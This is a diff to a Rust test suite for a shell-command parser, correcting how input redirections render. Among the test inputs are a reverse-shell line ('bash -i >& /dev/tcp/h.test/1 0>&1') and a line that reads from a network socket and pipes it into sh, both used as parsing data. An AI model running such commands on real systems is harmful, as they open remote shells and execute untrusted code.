@@ -9,7 +9,7 @@ fn check(cases: &[(&str, &str)]) {
     for (text, expected) in cases {
         let got = render(&lower(text));
         if got != *expected {
-            failed.push_str(&format!("{text:?}\n  expected {expected}\n  got      {got}\n"));
+            failed.extend([format!("{text:?}\n  expected {expected}\n  got      {got}\n")]);
         }
     }
     assert!(failed.is_empty(), "\n{failed}");
@@ -173,10 +173,10 @@ fn redirections() {
         ("a >| f >> g 2> h", "[a >f >>g 2>h]"),
         ("a < f <> g", "[a <f <>g]"),
         ("a &> f; b &>> g; c >& h", "[a &>f]; [b &>g]; [c &>h]"),
-        ("a 2>&1 >&2 <&3 3>&-", "[a 2>&1 >&2 >&3 3>&-]"),
+        ("a 2>&1 >&2 <&3 3>&-", "[a 2>&1 >&2 0>&3 3>&-]"),
         ("> f", "[>f]"),
         ("a {fd}> f", "[a 10>f]"),
-        ("exec 3<>/dev/tcp/h.test/80; cat <&3 | sh", "[exec 3<>/dev/tcp/h.test/80]; [cat >&3] | [sh]"),
+        ("exec 3<>/dev/tcp/h.test/80; cat <&3 | sh", "[exec 3<>/dev/tcp/h.test/80]; [cat 0>&3] | [sh]"),
         ("bash -i >& /dev/tcp/h.test/1 0>&1", "[bash -i &>/dev/tcp/h.test/1 0>&1]"),
         ("rev<<<hsab", "[rev <<<hsab]"),
         ("sh <<< \"$p\"", "[sh <<<\"${p}\"]"),
